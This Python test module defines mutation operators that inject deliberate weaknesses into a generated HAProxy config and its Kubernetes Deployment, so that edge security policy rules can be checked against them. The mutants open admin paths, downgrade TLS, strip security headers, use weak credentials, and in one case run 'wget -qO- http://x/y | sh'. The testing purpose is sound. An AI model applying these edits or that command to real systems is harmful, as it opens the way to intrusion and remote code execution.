"""Mutation operators for the edge rules: insecure edits of the generated haproxy.cfg in each shipped export."""

from __future__ import annotations

import base64
import copy
import re
from collections.abc import Callable
from typing import Any

from tests.policies.mutants.model import Export, Mutation, first, of_type, set_input

CONFIGMAP = "kubernetes:core/v1:ConfigMap"
DEPLOYMENT = "kubernetes:apps/v1:Deployment"
EDGE_CONTAINER = ("spec", "template", "spec", "containers", 0)
HTTPS_FRONTEND = "frontend public_https\n"


def edit_cfg(change: Callable[[str], str]) -> Callable[[Export], str | None]:
    """Rewrites the HAProxy configuration in the edge ConfigMap (inputs and outputs alike)."""

    def apply(export: Export) -> str | None:
        for configmap in of_type(export, CONFIGMAP):
            text = (configmap.get("inputs", {}).get("data") or {}).get("haproxy.cfg")
            if isinstance(text, str) and HTTPS_FRONTEND in text:
                changed = change(text)
                assert changed != text, "the operator changed nothing"
                return set_input(configmap, ("data", "haproxy.cfg"), changed)
        raise KeyError("no HAProxy ConfigMap")

    return apply


def _in_https(line: str) -> Callable[[str], str]:
    """Adds `line` as the first rule of the public HTTPS frontend (before its binds' rules)."""
    return lambda text: text.replace(HTTPS_FRONTEND, HTTPS_FRONTEND + f"    {line}\n", 1)


def _drop(fragment: str) -> Callable[[str], str]:
    return lambda text: "\n".join(line for line in text.split("\n") if fragment not in line)


def _edge_container(change: Callable[[dict[str, Any], dict[str, Any]], None]) -> Callable[[Export], str | None]:
    """Changes the HAProxy container (and its pod spec) of the edge Deployment, inputs and outputs alike."""

    def apply(export: Export) -> str | None:
        edge = first(export, DEPLOYMENT, "edge-deployment")
        for side in ("inputs", "outputs"):
            pod = edge[side]["spec"]["template"]["spec"]
            change(pod["containers"][0], pod)
        return str(edge["urn"])

    return apply


def _extra_volume(path: str, volume: dict[str, Any]) -> Callable[[dict[str, Any], dict[str, Any]], None]:
    def change(container: dict[str, Any], pod: dict[str, Any]) -> None:
        container["volumeMounts"].append({"name": volume["name"], "mountPath": path, "readOnly": True})
        pod["volumes"].append(copy.deepcopy(volume))
    return change


def _then(*changes: Callable[[dict[str, Any], dict[str, Any]], None]) -> Callable[[dict[str, Any], dict[str, Any]], None]:
    def change(container: dict[str, Any], pod: dict[str, Any]) -> None:
        for one in changes:
            one(container, pod)
    return change


def _argv(*extra: str, into: str = "command") -> Callable[[dict[str, Any], dict[str, Any]], None]:
    def change(container: dict[str, Any], pod: dict[str, Any]) -> None:
        container.setdefault(into, []).extend(extra)
    return change


def _env(name: str, value: str) -> Callable[[dict[str, Any], dict[str, Any]], None]:
    def change(container: dict[str, Any], pod: dict[str, Any]) -> None:
        container.setdefault("env", []).append({"name": name, "value": value})
    return change


def _on_edge(apply: Callable[[Export], str | None]) -> Callable[[Export], str | None]:
    """Applies a ConfigMap edit; the finding belongs to the edge Deployment whose container loads it."""

    def run(export: Export) -> str | None:
        apply(export)
        return str(first(export, DEPLOYMENT, "edge-deployment")["urn"])

    return run


SECRET_USERLIST = {"name": "extra", "secret": {"secretName": "haproxy-admin", "items": [
    {"key": "userlist.cfg", "path": "userlist.cfg"}]}}

OPERATORS: list[Mutation] = [
    Mutation("edge-admin-protected-allow-first", "edge-admin-protected", edit_cfg(_in_https("http-request allow"))),
    Mutation("edge-admin-protected-world-internal", "edge-admin-protected",
             edit_cfg(lambda t: re.sub(r"acl internal_client src [^\n]*", "acl internal_client src 0.0.0.0/1 128.0.0.0/1", t))),
    Mutation("edge-health-not-public-deny-off", "edge-health-not-public",
             edit_cfg(lambda t: t.replace("if protected_path !internal_client", "if protected_path !internal_client FALSE"))),
    Mutation("edge-tls-min-version-tls10", "edge-tls-min-version",
             edit_cfg(lambda t: t.replace("ssl-min-ver TLSv1.2", "ssl-min-ver TLSv1.0"))),
    Mutation("edge-security-headers-hsts-deleted", "edge-security-headers",
             edit_cfg(_drop('set-header Strict-Transport-Security'))),
    Mutation("edge-security-headers-server-kept", "edge-security-headers",
             edit_cfg(_drop("del-header Server"))),
    Mutation("edge-rate-limit-never-triggers", "edge-rate-limit",
             edit_cfg(lambda t: t.replace("sc_http_req_rate(0) gt 100", "sc_http_req_rate(0) gt 100000000"))),
    Mutation("edge-rate-limit-untracked", "edge-rate-limit", edit_cfg(_drop("track-sc0 src"))),
    Mutation("edge-https-only-plaintext-forward", "edge-https-only",
             edit_cfg(lambda t: t.replace("    http-request redirect scheme https code 301\n", "    default_backend app\n", 1))),
    # Every file HAProxy loads must be the evaluated ConfigMap: a second file, in every spelling.
    Mutation("edge-config-evaluated-secret-file", "edge-config-evaluated",
             _edge_container(_then(_extra_volume("/etc/haproxy/auth", SECRET_USERLIST),
                                   _argv("-f", "/etc/haproxy/auth/userlist.cfg"))),
             message="loads /etc/haproxy/auth/userlist.cfg (-f) from secret 'haproxy-admin'"),
    Mutation("edge-config-evaluated-joined-flag", "edge-config-evaluated",
             _edge_container(_then(_extra_volume("/etc/haproxy/auth", SECRET_USERLIST),
                                   _argv("-f/etc/haproxy/auth/userlist.cfg"))), message="joined to the path"),
    Mutation("edge-config-evaluated-secret-directory", "edge-config-evaluated",
             _edge_container(_then(_extra_volume("/etc/haproxy/auth", SECRET_USERLIST),
                                   _argv("-f", "/etc/haproxy/auth"))), message="a directory"),
    Mutation("edge-config-evaluated-args-hostpath", "edge-config-evaluated",
             _edge_container(_then(_extra_volume("/host", {"name": "host", "hostPath": {"path": "/etc/haproxy"}}),
                                   _argv("-f", "/host/extra.cfg", into="args"))), message="hostPath /etc/haproxy"),
    Mutation("edge-config-evaluated-cfgfiles-env", "edge-config-evaluated",
             _edge_container(_env("HAPROXY_CFGFILES", "/usr/local/etc/haproxy/haproxy.cfg:/tmp/extra.cfg")),
             message="loads /tmp/extra.cfg (HAPROXY_CFGFILES) from emptyDir"),
    Mutation("edge-config-evaluated-double-dash", "edge-config-evaluated",
             _edge_container(_argv("--", "/etc/haproxy/extra.cfg")), message="after `--`"),
    Mutation("edge-config-evaluated-env-bind", "edge-config-evaluated",
             _on_edge(edit_cfg(lambda t: t.replace("    bind *:8080\n", '    bind "${EXTRA_BIND}"\n', 1))),
             message="${EXTRA_BIND}"),
    Mutation("edge-config-evaluated-conditional-deny", "edge-config-evaluated",
             _on_edge(edit_cfg(lambda t: re.sub(r"( +)(http-request deny deny_status 403 if protected_path !internal_client\n)",
                                             r"\1.if !defined(OPEN_EDGE)\n\1\2\1.endif\n", t, count=1))),
             message="conditional block"),
    Mutation("edge-config-evaluated-shell-wrapper", "edge-config-evaluated",
             _edge_container(lambda c, pod: c.update(command=["sh", "-c", "exec haproxy -db -f \"$0\"", *c["command"][3:]])),
             message="runs haproxy through `sh -c"),
]
# --- every other spelling of the same defects (production export: the shipped stacks share the generated
# configuration, so one stack proves the rule; the operators above run on all four). edge-error-pages is MEDIUM,
# which the production gate reports without failing, so its spellings are per-rule tests instead.
PROD = ("production",)
HTTPS_BIND = "    bind *:8443 ssl crt /etc/haproxy/tls/site.pem alpn h2,http/1.1\n"
DENY_403 = "http-request deny deny_status 403 if protected_path !internal_client"
RATE_LIMIT = "sc_http_req_rate(0) gt 100"
TRACK = "http-request track-sc0 src table public_https"
STICK = "stick-table type ipv6 size 1m expire 10s store http_req_rate(10s)"
REDIRECT = "http-request redirect scheme https code 301"
HSTS = 'set-header Strict-Transport-Security "max-age=63072000; includeSubDomains"'
HTTPS_BACKEND = "    default_backend app\n"  # only the public HTTPS frontend names a backend


def _sub(old: str, new: str) -> Callable[[str], str]:
    """Replaces every occurrence of `old` (which must be there)."""

    def change(text: str) -> str:
        assert old in text, old
        return text.replace(old, new)

    return change


def _re(pattern: str, new: str) -> Callable[[str], str]:
    return lambda text: re.sub(pattern, new, text)


def _append(block: str) -> Callable[[str], str]:
    return lambda text: text.rstrip("\n") + "\n\n" + block


def _chain(*changes: Callable[[str], str]) -> Callable[[str], str]:
    def change(text: str) -> str:
        for one in changes:
            text = one(text)
        return text
    return change


def _cfg(name: str, rule: str, change: Callable[[str], str], message: str) -> Mutation:
    return Mutation(name, rule, edit_cfg(change), PROD, message)


def _as_binary_data(change: Callable[[str], str]) -> Callable[[Export], str | None]:
    """Moves haproxy.cfg from `data` to `binaryData` (base64, as the kubelet decodes it) after `change`."""

    def apply(export: Export) -> str | None:
        for configmap in of_type(export, CONFIGMAP):
            if "haproxy.cfg" not in (configmap.get("inputs", {}).get("data") or {}):
                continue
            for side in ("inputs", "outputs"):
                data = configmap.get(side, {}).get("data") or {}
                if "haproxy.cfg" in data:
                    text = change(data.pop("haproxy.cfg"))
                    configmap[side].setdefault("binaryData", {})["haproxy.cfg"] = \
                        base64.b64encode(text.encode()).decode()
            return str(configmap["urn"])
        raise KeyError("no HAProxy ConfigMap")

    return apply


def _swap_key(container: dict[str, Any], pod: dict[str, Any]) -> None:
    """Mounts another `.cfg` key of the same ConfigMap as haproxy.cfg (the key is added to the ConfigMap)."""
    pod["volumes"][0]["configMap"]["items"][0] = {"key": "override.cfg", "path": "haproxy.cfg"}


def _override_key(export: Export) -> str | None:
    for configmap in of_type(export, CONFIGMAP):
        if "haproxy.cfg" in (configmap.get("inputs", {}).get("data") or {}):
            set_input(configmap, ("data", "override.cfg"), "frontend public_https\n    bind *:8443\n")
    return _edge_container(_swap_key)(export)


def _container(name: str, message: str, change: Callable[[dict[str, Any], dict[str, Any]], None]) -> Mutation:
    return Mutation(name, "edge-config-evaluated", _edge_container(change), PROD, message)


def _set(key: str, value: Any) -> Callable[[dict[str, Any], dict[str, Any]], None]:
    def change(container: dict[str, Any], pod: dict[str, Any]) -> None:
        container[key] = copy.deepcopy(value)
    return change


def _sidecar(container: dict[str, Any], pod: dict[str, Any]) -> None:
    pod["containers"].append({"name": "debug", "image": "haproxy:3.2.9-alpine",
                              "command": ["haproxy", "-f", "/etc/extra/extra.cfg"],
                              "volumeMounts": [{"name": "extra", "mountPath": "/etc/extra"}]})
    pod["volumes"].append({"name": "extra", "secret": {"secretName": "edge-extra"}})


ADMIN = "edge-admin-protected"
HEALTH = "edge-health-not-public"
HTTPS_ONLY = "edge-https-only"
TLS = "edge-tls-min-version"
HEADERS = "edge-security-headers"
RATE = "edge-rate-limit"
EVALUATED = "edge-config-evaluated"
OTHER_FRONTEND = "frontend legacy\n    bind *:9000\n    default_backend app\n"

RED_TEAM: list[Mutation] = [
    # who reaches /admin
    _cfg("edge-admin-allow-admin-path", ADMIN, _in_https("http-request allow if { path_beg /admin }"), "allow"),
    _cfg("edge-admin-internal-world", ADMIN, _re(r"acl internal_client src [^\n]*", "acl internal_client src 0.0.0.0/0"),
         "0.0.0.0/0"),
    _cfg("edge-admin-internal-ipv6-world", ADMIN, _re(r"(acl internal_client src [^\n]*)", r"\1 ::/0"), "::/0"),
    _cfg("edge-admin-internal-netmask-world", ADMIN,
         _re(r"(acl internal_client src [^\n]*)", r"\1 0.0.0.0/0.0.0.0"), "0.0.0.0/0.0.0.0"),
    _cfg("edge-admin-internal-redefined-by-header", ADMIN,
         _re(r"(acl internal_client src [^\n]*\n)", r"\1    acl internal_client req.hdr(x-internal) -m found\n"),
         "x-internal"),
    _cfg("edge-admin-internal-from-xff", ADMIN,
         _chain(_re(r"acl internal_client src ([^\n]*)", r"acl internal_client hdr_ip(x-forwarded-for) \1"),
                _drop("del-header X-Forwarded-For")), "x-forwarded-for"),
    _cfg("edge-admin-set-src-unconditional", ADMIN, _in_https("http-request set-src hdr_ip(x-forwarded-for,-1)"),
         "x-forwarded-for"),
    _cfg("edge-admin-set-src-real-ip", ADMIN, _in_https("http-request set-src req.hdr(x-real-ip)"), "x-real-ip"),
    _cfg("edge-admin-only-auth", ADMIN, _drop(DENY_403), "/admin"),
    _cfg("edge-admin-deny-always-false", ADMIN, _sub(DENY_403, DENY_403 + " { always_false }"), "/admin"),
    _cfg("edge-admin-deny-header-bypass", ADMIN, _sub(DENY_403, DENY_403 + " !{ req.hdr(x-debug) -m found }"),
         "x-debug"),
    _cfg("edge-admin-deny-negated", ADMIN, _sub(DENY_403, DENY_403.replace("if protected_path", "if !protected_path")),
         "/admin"),
    _cfg("edge-admin-acl-undefined", ADMIN, _sub(DENY_403, DENY_403 + "s"), "internal_clients"),
    _cfg("edge-admin-stats-in-frontend", ADMIN, _in_https("stats enable\n    stats uri /haproxy-stats"), "stats"),
    _cfg("edge-admin-stats-listen", ADMIN,
         _append("listen stats_ui\n    bind *:9000\n    mode http\n    stats enable\n    stats uri /\n"
                 "    stats admin if TRUE\n"), "stats"),
    _cfg("edge-admin-stats-in-defaults", ADMIN, _sub("defaults\n", "defaults\n    stats enable\n"), "stats"),
    _cfg("edge-admin-runtime-api-ipv4", ADMIN, _sub("global\n", "global\n    stats socket ipv4@0.0.0.0:9999 level admin\n"),
         "stats socket"),
    _cfg("edge-admin-runtime-api-hostname", ADMIN,
         _sub("global\n", "global\n    stats socket edge-admin.example.com:9999 level admin expose-fd listeners\n"),
         "stats socket"),
    _cfg("edge-admin-runtime-api-port-only", ADMIN, _sub("global\n", "global\n    stats socket :9999 level admin\n"),
         "stats socket"),
    _cfg("edge-admin-mode-tcp", ADMIN, _in_https("mode tcp"), "mode tcp"),
    _cfg("edge-admin-second-tls-frontend", ADMIN,
         _append("frontend alt_tls\n    bind *:9443 ssl crt /etc/haproxy/tls/site.pem\n    default_backend app\n"),
         "alt_tls"),
    _cfg("edge-admin-return-page", ADMIN,
         _in_https('http-request return status 200 content-type text/plain string "admin" if { path_beg /admin }'),
         "answered 200"),
    _cfg("edge-admin-use-service", ADMIN, _in_https("http-request use-service prometheus-exporter"), "use-service"),
    _cfg("edge-admin-accept-proxy", ADMIN, _sub(HTTPS_BIND, HTTPS_BIND.rstrip("\n") + " accept-proxy\n"),
         "accept-proxy"),
    _cfg("edge-admin-rewrite-after-deny", ADMIN,
         _sub(DENY_403, DENY_403 + "\n    http-request replace-path /static(/.*) \\1"), "replace-path"),
    _cfg("edge-admin-allow-src-world", ADMIN, _in_https("http-request allow if { src 0.0.0.0/0 }"), "allow"),
    _cfg("edge-admin-quoted-acl", ADMIN, _sub(DENY_403, DENY_403.replace("!internal_client", '"!internal_client" FALSE')),
         "/admin"),
    # health, readiness, metrics
    _cfg("edge-health-monitor-uri-public", HEALTH, _in_https("monitor-uri /healthz"), "/healthz"),
    _cfg("edge-health-return-public", HEALTH,
         _in_https('http-request return status 200 content-type text/plain string "ok" if { path /healthz }'), "/healthz"),
    _cfg("edge-health-regex-narrowed", HEALTH, _sub("(health|ready|metrics|admin)", "(ready|metrics|admin)"), "/health"),
    _cfg("edge-health-metrics-service-public", HEALTH,
         _in_https("http-request use-service prometheus-exporter if { path /metrics }"), "/metrics"),
    _cfg("edge-health-metrics-on-public-port", HEALTH, _sub("    bind *:8405\n", "    bind *:8405\n    bind *:8080\n"),
         "internal_metrics"),
    _cfg("edge-health-metrics-tls-bind", HEALTH, _sub("    bind *:8405\n", "    bind *:8405\n" + HTTPS_BIND),
         "internal_metrics"),
    _cfg("edge-health-case-sensitive", HEALTH, _sub("path,url_dec -m reg -i '^/+(\\./+)*(health|",
                                                  "path,url_dec -m reg '^/+(\\./+)*(health|"), "/HEALTH"),
    _cfg("edge-health-user-agent-bypass", HEALTH,
         _sub(DENY_403, DENY_403 + " !{ req.hdr(user-agent) -m sub kube-probe }"), "user-agent"),
    _cfg("edge-health-if-conditional-zero", HEALTH, _re(r"( +)(" + re.escape(DENY_403) + r")\n", r".if 0\n\1\2\n.endif\n"),
         "/health"),
    # plaintext
    _cfg("edge-https-redirect-if-false", HTTPS_ONLY, _sub(REDIRECT, REDIRECT + " if FALSE\n    default_backend app"),
         "public_http"),
    _cfg("edge-https-redirect-unless-true", HTTPS_ONLY, _sub(REDIRECT, REDIRECT + " unless TRUE\n    default_backend app"),
         "public_http"),
    _cfg("edge-https-redirect-always-false", HTTPS_ONLY,
         _sub(REDIRECT, REDIRECT + " if { always_false }\n    default_backend app"), "public_http"),
    _cfg("edge-https-redirect-header", HTTPS_ONLY,
         _sub(REDIRECT, REDIRECT + " unless { req.hdr(x-forwarded-proto) -m str https }\n    default_backend app"),
         "x-forwarded-proto"),
    _cfg("edge-https-redirect-to-http", HTTPS_ONLY, _sub("redirect scheme https", "redirect scheme http"), "non-HTTPS"),
    _cfg("edge-https-other-frontend", HTTPS_ONLY, _append(OTHER_FRONTEND), "legacy"),
    _cfg("edge-https-plain-bind-in-tls-frontend", HTTPS_ONLY, _sub(HTTPS_BIND, HTTPS_BIND + "    bind *:8081\n"), "8081"),
    _cfg("edge-https-ssl-keyword-dropped", HTTPS_ONLY, _sub(HTTPS_BIND, HTTPS_BIND.replace(" ssl ", " ")), "8443"),
    _cfg("edge-https-tcp-listen", HTTPS_ONLY,
         _append("listen raw\n    mode tcp\n    bind *:7000\n    server s orchestrator-blue.orchestrator.svc.cluster.local:80\n"),
         "raw"),
    _cfg("edge-https-return-page", HTTPS_ONLY,
         _sub(REDIRECT, 'http-request return status 200 content-type text/html string "hi"\n    ' + REDIRECT), "answered 200"),
    _cfg("edge-https-ipv4-prefix-bind", HTTPS_ONLY,
         _append("frontend legacy\n    bind ipv4@:9080\n    default_backend app\n"), "9080"),
    _cfg("edge-https-allow-before-redirect", HTTPS_ONLY,
         _chain(_sub("defaults\n", "defaults\n    default_backend app\n"),
                _sub(REDIRECT, "http-request allow\n    " + REDIRECT)), "public_http"),
    _cfg("edge-https-redirect-some-paths", HTTPS_ONLY,
         _sub(REDIRECT, REDIRECT + " if { path_beg /login }\n    default_backend app"), "public_http"),
    _cfg("edge-https-abns-and-network", HTTPS_ONLY,
         _append("frontend legacy\n    bind abns@local,:9001\n    default_backend app\n"), "9001"),
    # TLS versions and ciphers
    _cfg("edge-tls-bind-tls11", TLS, _sub(HTTPS_BIND, HTTPS_BIND.rstrip("\n") + " ssl-min-ver TLSv1.1\n"), "TLSv1.1"),
    _cfg("edge-tls-bind-force-tls10", TLS, _sub(HTTPS_BIND, HTTPS_BIND.rstrip("\n") + " force-tlsv10\n"), "below"),
    _cfg("edge-tls-bind-force-sslv3", TLS, _sub(HTTPS_BIND, HTTPS_BIND.rstrip("\n") + " force-sslv3\n"), "below"),
    _cfg("edge-tls-global-options-removed", TLS, _drop("ssl-default-bind-options"), "no minimum TLS version"),
    _cfg("edge-tls-global-no-sslv3-only", TLS, _sub("ssl-min-ver TLSv1.2", "no-sslv3"), "below"),
    _cfg("edge-tls-global-second-line", TLS,
         _re(r"(    ssl-default-bind-options [^\n]*\n)", r"\1    ssl-default-bind-options ssl-min-ver TLSv1.0\n"), "TLSv1.0"),
    _cfg("edge-tls-second-global-section", TLS, _append("global\n    ssl-default-bind-options ssl-min-ver TLSv1.1\n"),
         "TLSv1.1"),
    _cfg("edge-tls-bind-max-ver", TLS, _sub(HTTPS_BIND, HTTPS_BIND.rstrip("\n") + " ssl-max-ver TLSv1.1\n"), "caps"),
    _cfg("edge-tls-global-max-ver", TLS, _sub("ssl-min-ver TLSv1.2", "ssl-min-ver TLSv1.0 ssl-max-ver TLSv1.1"), "TLSv1.0"),
    _cfg("edge-tls-bind-weak-ciphers", TLS, _sub(HTTPS_BIND, HTTPS_BIND.rstrip("\n") + " ciphers AES128-SHA:DES-CBC3-SHA\n"),
         "weak ciphers"),
    _cfg("edge-tls-global-high-class", TLS, _re(r"ssl-default-bind-ciphers [^\n]*", "ssl-default-bind-ciphers HIGH:!aNULL:!MD5"),
         "HIGH"),
    _cfg("edge-tls-global-rc4", TLS, _re(r"(ssl-default-bind-ciphers [^\n]*)", r"\1:RC4-SHA"), "RC4"),
    _cfg("edge-tls-ciphers-removed", TLS, _drop("ssl-default-bind-ciphers "), "cipher"),
    _cfg("edge-tls-bind-repeated-min", TLS,
         _sub(HTTPS_BIND, HTTPS_BIND.rstrip("\n") + " ssl-min-ver TLSv1.2 ssl-min-ver TLSv1.0\n"), "TLSv1.0"),
    _cfg("edge-tls-bind-lowercase", TLS, _sub(HTTPS_BIND, HTTPS_BIND.rstrip("\n") + " ssl-min-ver tlsv1.0\n"), "tlsv1.0"),
    _cfg("edge-tls-crt-list", TLS, _sub("crt /etc/haproxy/tls/site.pem", "crt-list /etc/haproxy/tls/list.txt"), "crt-list"),
    _cfg("edge-tls-quoted-option", TLS, _sub(HTTPS_BIND, HTTPS_BIND.rstrip("\n") + ' "ssl-min-ver" \'TLSv1.0\'\n'),
         "TLSv1.0"),
    _cfg("edge-tls-hex-escaped", TLS, _sub(HTTPS_BIND, HTTPS_BIND.rstrip("\n") + " ssl-min-ver TLSv1\\x2e0\n"), "TLSv1.0"),
    # response headers
    _cfg("edge-headers-hsts-zero", HEADERS, _sub("max-age=63072000", "max-age=0"), "max-age"),
    _cfg("edge-headers-hsts-deleted-after", HEADERS,
         _sub(HTTPS_BACKEND, "    http-after-response del-header strict-transport-security\n" + HTTPS_BACKEND), "deleted"),
    _cfg("edge-headers-hsts-if-false", HEADERS, _sub(HSTS, HSTS + " if FALSE"), "never holds"),
    _cfg("edge-headers-hsts-unused-backend", HEADERS,
         _chain(_drop("Strict-Transport-Security"),
                _append('backend unused\n    http-after-response ' + HSTS + "\n")), "Strict-Transport-Security"),
    _cfg("edge-headers-hsts-replace-value", HEADERS,
         _sub(HTTPS_BACKEND, "    http-after-response replace-value Strict-Transport-Security max-age=[0-9]+ max-age=0\n"
              + HTTPS_BACKEND), "Strict-Transport-Security"),
    _cfg("edge-headers-hsts-quoted-zero", HEADERS, _sub("max-age=63072000", 'max-age=\\"0\\"'), "max-age"),
    _cfg("edge-headers-server-set-after", HEADERS,
         _sub(HTTPS_BACKEND, "    http-after-response set-header Server HAProxy\n" + HTTPS_BACKEND), "Server"),
    _cfg("edge-headers-server-del-if-false", HEADERS, _sub("del-header Server", "del-header Server if FALSE"), "Server"),
    _cfg("edge-headers-frame-allowall", HEADERS,
         _chain(_sub('X-Frame-Options "DENY"', 'X-Frame-Options "ALLOWALL"'), _sub("frame-ancestors 'none'; ", "")),
         "X-Frame-Options"),
    _cfg("edge-headers-nosniff-wrong", HEADERS, _sub('"nosniff"', '"sniff"'), "X-Content-Type-Options"),
    _cfg("edge-headers-hsts-some-statuses", HEADERS, _sub(HSTS, HSTS + " if { status 200 }"), "Strict-Transport-Security"),
    _cfg("edge-headers-hsts-deleted-by-backend", HEADERS,
         _sub(HTTPS_BACKEND, "    http-after-response del-header Strict-Transport-Security if { res.hdr(x-no-hsts) -m found }\n"
              + HTTPS_BACKEND), "Strict-Transport-Security"),
    _cfg("edge-headers-referrer-unsafe", HEADERS, _sub("strict-origin-when-cross-origin", "unsafe-url"), "Referrer-Policy"),
    _cfg("edge-headers-csp-removed", HEADERS, _drop("Content-Security-Policy"), "Content-Security-Policy"),
    _cfg("edge-headers-hsts-deleted-by-prefix", HEADERS,
         _sub(HTTPS_BACKEND, "    http-after-response del-header Strict -m beg\n" + HTTPS_BACKEND), "Strict"),
    _cfg("edge-headers-hsts-duplicate-directive", HEADERS, _sub("max-age=63072000;", "max-age=63072000; max-age=0;"),
         "max-age"),
    # rate limit
    _cfg("edge-rate-track-if-false", RATE, _sub(TRACK, TRACK + " if FALSE"), "429"),
    _cfg("edge-rate-table-no-rate", RATE, _sub(STICK, STICK.replace("http_req_rate(10s)", "conn_cur")), "http_req_rate"),
    _cfg("edge-rate-expire-tiny", RATE, _sub("expire 10s", "expire 1ms"), "expire"),
    _cfg("edge-rate-period-tiny", RATE, _sub("http_req_rate(10s)", "http_req_rate(1ms)"), "1ms"),
    _cfg("edge-rate-table-tiny", RATE, _sub("size 1m", "size 1"), "size"),
    _cfg("edge-rate-allow-api-first", RATE, _in_https("http-request allow if { path_beg /api }"), "allow"),
    _cfg("edge-rate-partner-header", RATE, _sub(RATE_LIMIT + " }", RATE_LIMIT + " } !{ req.hdr(x-partner) -m found }"),
         "x-partner"),
    _cfg("edge-rate-other-counter", RATE, _sub("sc_http_req_rate(0)", "sc_http_req_rate(1)"), "429"),
    _cfg("edge-rate-other-table", RATE, _sub("sc_http_req_rate(0)", "sc_http_req_rate(0,app)"), "429"),
    _cfg("edge-rate-inverted", RATE, _sub(RATE_LIMIT, "sc_http_req_rate(0) lt 100"), "429"),
    _cfg("edge-rate-tracked-by-header", RATE, _sub(TRACK, TRACK.replace(" src ", " req.hdr(x-client-id) ")), "x-client-id"),
    _cfg("edge-rate-track-some-paths", RATE, _sub(TRACK, TRACK + " if { path_beg /static }"), "429"),
    # every file loaded
    Mutation("edge-evaluated-env-in-acl", EVALUATED,
             _on_edge(edit_cfg(_re(r"acl internal_client src [^\n]*", 'acl internal_client src "${TRUSTED_RANGES}"'))),
             PROD, "TRUSTED_RANGES"),
    _container("edge-evaluated-cfgfiles-from-configmap", "HAPROXY_CFGFILES",
               lambda c, pod: c.setdefault("env", []).append(
                   {"name": "HAPROXY_CFGFILES", "valueFrom": {"configMapKeyRef": {"name": "extra", "key": "files"}}})),
    _container("edge-evaluated-env-from", "envFrom", _set("envFrom", [{"configMapRef": {"name": "edge-env"}}])),
    _container("edge-evaluated-undeclared-configmap", "extra-haproxy",
               _then(_extra_volume("/etc/haproxy/extra", {"name": "extra", "configMap": {"name": "extra-haproxy"}}),
                     _argv("-f", "/etc/haproxy/extra/extra.cfg"))),
    _container("edge-evaluated-error-page-as-config", "400.http",
               _argv("-f", "/usr/local/etc/haproxy/errors/400.http")),
    _container("edge-evaluated-unknown-wrapper", "/bin/entry",
               lambda c, pod: c.update(command=["/bin/entry", *c["command"]])),
    _container("edge-evaluated-bash-c", "bash",
               _set("command", ["bash", "-c", "haproxy -db -f /usr/local/etc/haproxy/haproxy.cfg -f /tmp/x.cfg"])),
    _container("edge-evaluated-chdir-secret", "secret",
               _argv("-C", "/etc/haproxy/tls", "-f", "site.pem")),
    _container("edge-evaluated-config-from-emptydir", "emptyDir",
               lambda c, pod: pod["volumes"].__setitem__(0, {"name": "config", "emptyDir": {}})),
    _container("edge-evaluated-sidecar", "edge-extra", _sidecar),
    Mutation("edge-evaluated-other-key-as-haproxy-cfg", EVALUATED, _override_key, PROD, "override.cfg"),
    Mutation("edge-admin-binary-data", ADMIN, _as_binary_data(_in_https("http-request allow")), PROD, "allow"),
    Mutation("edge-evaluated-lua-load", EVALUATED,
             _on_edge(edit_cfg(_sub("global\n", "global\n    lua-load /tmp/edge.lua\n"))), PROD, "lua-load"),
    Mutation("edge-evaluated-program", EVALUATED,
             _on_edge(edit_cfg(_append("program sync\n    command /bin/sh -c \"wget -qO- http://x/y | sh\"\n"))), PROD,
             "program"),
    Mutation("edge-evaluated-master-cli", EVALUATED, _edge_container(_argv("-S", "ipv4@0.0.0.0:9999")), PROD, "-S"),
]
OPERATORS += RED_TEAM

CREDS_USERLIST = "userlist edge_admins\n"
RED_TEAM_2: list[Mutation] = [
    _cfg("edge-admin-stats-auth-literal", ADMIN,
         _append("listen stats_ui\n    bind 127.0.0.1:9000\n    mode http\n    stats enable\n    stats auth admin:admin\n"),
         "stats auth admin"),
    _cfg("edge-admin-insecure-password", ADMIN,
         _re(r'user admin password "\$\{HAPROXY_ADMIN_PASSWORD_HASH\}"', "user admin insecure-password hunter2"),
         "insecure-password"),
    _cfg("edge-admin-deny-in-unused-backend", ADMIN,
         _chain(_drop(DENY_403), _append("backend unused\n    http-request " + DENY_403.removeprefix("http-request ") + "\n")),
         "/admin"),
    _cfg("edge-health-monitor-uri-in-defaults", HEALTH, _sub("defaults\n", "defaults\n    monitor-uri /healthz\n"),
         "/healthz"),
    _cfg("edge-https-plain-api-path", HTTPS_ONLY,
         _sub(REDIRECT, REDIRECT + " unless { path_beg /api/ }\n    use_backend app if { path_beg /api/ }"), "/api/"),
    _cfg("edge-headers-csp-wildcard-scripts", HEADERS,
         _sub("default-src 'self';", "default-src 'self'; script-src * 'unsafe-inline';"), "script-src allows *"),
    _cfg("edge-rate-some-paths-exempt", RATE,
         _in_https("http-request allow if { path_beg /api/orders }"), "/api/orders"),
    _container("edge-evaluated-kubelet-expansion", "EXTRA_CFG",
               _then(_env("EXTRA_CFG", "ignored"),
                     lambda c, pod: c["env"].__setitem__(-1, {"name": "EXTRA_CFG", "valueFrom": {
                         "configMapKeyRef": {"name": "edge-extra", "key": "path"}}}),
                     _argv("-f", "$(EXTRA_CFG)"))),
    _container("edge-evaluated-kubelet-expansion-literal", "/etc/haproxy/extra.cfg",
               _then(_env("EXTRA_CFG", "/etc/haproxy/extra.cfg"), _argv("-f", "$(EXTRA_CFG)"))),
]
OPERATORS += RED_TEAM_2

RED_TEAM_3: list[Mutation] = [
    _cfg("edge-admin-deny-only-get", ADMIN, _sub(DENY_403, DENY_403 + " METH_GET"), "as a POST"),
    _cfg("edge-health-deny-only-http11", HEALTH, _sub(DENY_403, DENY_403 + " { req.ver 1.1 }"), "over HTTP/2.0"),
    _cfg("edge-admin-query-bypass", ADMIN, _sub(DENY_403, DENY_403 + " !{ url_param(debug) -m str on }"), "debug=on"),
    _cfg("edge-health-cookie-bypass", HEALTH, _sub(DENY_403, DENY_403 + " !{ req.cook(probe) -m found }"), "probe=1"),
]
OPERATORS += RED_TEAM_3
